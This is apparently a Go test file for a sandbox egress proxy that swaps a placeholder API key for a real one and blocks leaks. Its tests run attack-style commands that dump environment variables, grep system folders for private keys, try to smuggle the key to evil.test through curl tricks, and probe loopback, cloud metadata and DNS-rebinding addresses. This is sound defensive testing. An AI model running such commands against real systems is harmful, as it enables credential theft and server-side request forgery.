package egress_test

import (
	"bytes"
	"errors"
	"fmt"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/parley-server/parley/internal/egress"
	"github.com/parley-server/parley/internal/testing/egresstest"
	"github.com/parley-server/parley/internal/testing/need"
	"github.com/parley-server/parley/internal/testing/slow"
	"github.com/parley-server/parley/internal/toolenv/sandbox"
)

// shell runs scripts in a sandbox that uses the proxy of a run.
type shell struct {
	sandbox *sandbox.Sandbox
	folder  string
}

// newShell opens a sandbox. It skips the test if there cannot be a sandbox, or if a program is
// missing in it.
func newShell(t *testing.T, programs ...string) *shell {
	t.Helper()
	without := func(err error) {
		need.Missing(t, "%v", err)
	}
	for _, p := range programs {
		if _, err := exec.LookPath("/usr/bin/" + p); err != nil {
			without(err)
		}
	}
	s, err := sandbox.Open(t.Context(), sandbox.Config{Users: sandbox.UserRange{First: 64002, Last: 64065}, Transparent: true})
	if err != nil {
		without(err)
	}
	t.Cleanup(func() {
		if err := s.Close(); err != nil {
			t.Error(err)
		}
	})
	folder, err := s.NewFolder("test")
	if err != nil {
		t.Fatal(err)
	}
	return &shell{s, folder}
}

// run returns the output of a script. KEY is the placeholder.
func (s *shell) run(t *testing.T, r *egress.Run, script string) string {
	t.Helper()
	var out bytes.Buffer
	res, err := s.sandbox.Run(t.Context(), sandbox.Command{
		Argv: []string{"bash", "-c", script}, Env: []string{"KEY=" + holder}, Folder: s.folder, CA: r.CA(), Serve: r.Serve, Output: &out,
	})
	if err != nil || res.Killed != "" {
		t.Errorf("%s: %+v, %v", script, res, err)
	}
	hidden(t, out.String())
	return out.String()
}

// clients are programs that send the placeholder to a URL and print the response.
var clients = map[string]struct{ program, script string }{
	"curl": {"curl", `curl -sS -H "Authorization: Bearer $KEY" %s`},
	"python": {"python3", `python3 -c '
import os, sys, urllib.request, urllib.error
try:
    a = urllib.request.urlopen(urllib.request.Request(sys.argv[1], headers={"Authorization": "Bearer " + os.environ["KEY"]}))
except urllib.error.HTTPError as e:
    a = e
sys.stdout.write(a.read().decode())' %s`},
	"node": {"node", `node -e '
const u = new URL(process.argv[1]), p = new URL(process.env.HTTPS_PROXY);
require("http").request({host: p.hostname, port: p.port, method: "CONNECT", path: u.hostname + ":443"}).on("connect", (res, socket) => {
	const agent = new (require("https").Agent)();
	agent.createConnection = () => require("tls").connect({socket, servername: u.hostname});
	require("https").get(u, {agent, headers: {Authorization: "Bearer " + process.env.KEY}}, a => a.pipe(process.stdout).on("close", () => socket.destroy()));
}).end()' %s`},
}

// TestProgramsInTheSandbox lets real programs send the placeholder.
func TestProgramsInTheSandbox(t *testing.T) {
	t.Parallel()
	slow.Test(t, "runs programs in a sandbox")
	for name, c := range clients {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newShell(t, c.program)
			w := newWorld(t, egress.Config{})
			r := w.run(t, egress.RunConfig{})
			out := s.run(t, r, fmt.Sprintf(c.script, "https://api.test/me"))
			if got := w.last(t); got.header.Get("Authorization") != "Bearer "+value || got.uri != "/me" || !strings.Contains(out, "Bearer "+mark) {
				t.Errorf("api.test was sent %+v: %s", got, out)
			}
			if out := s.run(t, r, fmt.Sprintf(c.script, "https://evil.test/")); !strings.Contains(out,
				"evil.test is not on the list of hosts") || len(w.arrivals()) != 1 {
				t.Errorf("evil.test: %s", out)
			}
			s.run(t, w.run(t, egress.RunConfig{Public: true}), fmt.Sprintf(c.script, "https://evil.test/"))
			if got := w.last(t); got.site != "evil.test" || got.header.Get("Authorization") != "Bearer "+holder {
				t.Errorf("evil.test was sent %+v", got)
			}
		})
	}
}

// TestAttacksFromTheSandbox lets curl try to get the value out.
func TestAttacksFromTheSandbox(t *testing.T) {
	t.Parallel()
	slow.Test(t, "runs commands")
	c := egresstest.NewCanary(t)
	z := egresstest.Serve(t, "127.0.0.1:0", map[string][][]netip.Addr{
		"inside.example": {egresstest.Addrs("127.0.0.1")}, "mixed.example": {egresstest.Addrs(nowhere, "127.0.0.1")},
		"mapped.example": {egresstest.Addrs("::ffff:127.0.0.1")}, "rebind.example": {egresstest.Addrs(nowhere), egresstest.Addrs("127.0.0.1")},
	})
	s := newShell(t, "curl")
	w := newWorld(t, egress.Config{Resolver: z.Resolver()})
	r := w.run(t, egress.RunConfig{Public: true})
	w.hook = func(rw http.ResponseWriter, r *http.Request) {
		how := strings.TrimPrefix(r.URL.Path, "/")
		switch secret := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "); {
		case echoes[how] != nil:
			echoes[how](rw, secret)
		case how == "elsewhere":
			http.Redirect(rw, r, "https://evil.test/", http.StatusTemporaryRedirect)
		case how == "br":
			rw.Header().Set("Content-Encoding", "br")
			fmt.Fprint(rw, secret)
		default:
			fmt.Fprint(rw, "secret: ", secret)
		}
	}

	out := s.run(t, r, `env; cat /proc/self/environ /proc/1/environ; grep -rl "PRIVATE KEY" /etc /workspace /tmp /run 2>/dev/null`)
	if !strings.Contains(out, "KEY="+holder) || strings.Contains(out, "/etc/") && strings.Contains(out, ".pem\n") {
		t.Errorf("the environment: %s", out)
	}

	var script strings.Builder
	for how := range echoes {
		fmt.Fprintf(&script, "curl -sS -i --compressed -H \"Authorization: Bearer $KEY\" 'https://api.test/%s' | tee -a echoed\n",
			strings.ReplaceAll(how, " ", "%20"))
	}
	if out := s.run(t, r, script.String()); strings.Count(out, mark) < len(echoes)-2 {
		t.Errorf("echoes: %s", out)
	}
	echoed, err := os.ReadFile(filepath.Join(s.folder, "echoed"))
	if err != nil || len(echoed) == 0 {
		t.Errorf("the file is empty: %v", err)
	}
	hidden(t, string(echoed))

	for command, want := range map[string]string{
		`curl -sS -i -H "Authorization: $KEY" https://api.test/br`:                                                               "502 Bad Gateway",
		`curl -sS -r 0-9 -H "Authorization: $KEY" https://api.test/; curl -sS -r 10- -H "Authorization: $KEY" https://api.test/`: "secret: " + mark + "secret: " + mark,
		`curl -sS -L --location-trusted -H "Authorization: Bearer $KEY" https://api.test/elsewhere`:                              "secret: " + holder,
		`curl -sS -i -H "Host: evil.test" -H "Authorization: $KEY" https://api.test/`:                                            "421 Misdirected Request",
		`curl -sS --connect-to api.test:443:evil.test:443 -H "Authorization: $KEY" https://api.test/`:                            "",
		`curl -sS -u me:$KEY https://api.test/`:                                                                                  "",
		`curl -sS -H "Authorization: $KEY" http://api.test/`:                                                                     "secret: " + holder,
		`curl -sS -H "Authorization: $KEY" https://api.test@evil.test/`:                                                          "",
		`curl -sS -i -H "Authorization: $KEY" https://api.test:22/`:                                                              "403 Forbidden",
		`curl -sS -i -H "Connection: Upgrade" -H "Upgrade: websocket" https://api.test/`:                                         "A connection cannot be upgraded",
		`curl -sS --http2-prior-knowledge -H "Authorization: $KEY" https://api.test/`:                                            "",
		`curl -sS --noproxy '*' --max-time 3 https://1.1.1.1/`:                                                                   "curl: ",
		`curl -sS -H "Authorization: ph_ZZZZZZZZZZZZZZZZZZZZZZZZ" https://api.test/`:                                             "secret: ph_ZZZZZZZZZZZZZZZZZZZZZZZZ",
	} {
		if out := s.run(t, r, command+" 2>&1"); !strings.Contains(out, want) {
			t.Errorf("%s: %s", command, out)
		}
	}

	script.Reset()
	for _, host := range []string{
		"127.0.0.1", "127.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "0", "0.0.0.0", "localhost", "[::1]", "[::]",
		"[::ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "169.254.169.254", "metadata.google.internal", "10.1.2.3", "192.168.0.1",
		"inside.example", "mixed.example", "mapped.example", "rebind.example", "rebind.example",
	} {
		fmt.Fprintf(&script, "curl -sS --globoff --max-time 9 'https://%[1]s:%[2]s/' 'http://%[1]s:%[2]s/' 'http://%[1]s/' 2>&1\n", host, c.Port)
	}
	if out := s.run(t, r, script.String()); !strings.Contains(out, "is not a public one.") {
		t.Errorf("%s", out)
	}
	for _, got := range w.arrivals() {
		if sent := strings.Contains(fmt.Sprint(got), value); sent && got.site != "api.test" {
			t.Errorf("the value arrived: %+v", got)
		}
	}
}

// TestRunsInOneSandbox checks that a program of one run does not trust the proxy of another.
func TestRunsInOneSandbox(t *testing.T) {
	t.Parallel()
	s := newShell(t, "curl")
	w := newWorld(t, egress.Config{})
	one, two := w.run(t, egress.RunConfig{}), w.run(t, egress.RunConfig{})
	var out bytes.Buffer
	res, err := s.sandbox.Run(t.Context(), sandbox.Command{Argv: []string{"curl", "-sS", "https://api.test/"}, Folder: s.folder,
		CA: one.CA(), Serve: two.Serve, Output: &out})
	if failed := (*sandbox.Failure)(nil); errors.As(err, &failed) || res.Exit == 0 || !strings.Contains(out.String(), "certificate") {
		t.Errorf("%+v, %v: %s", res, err, &out)
	}
}
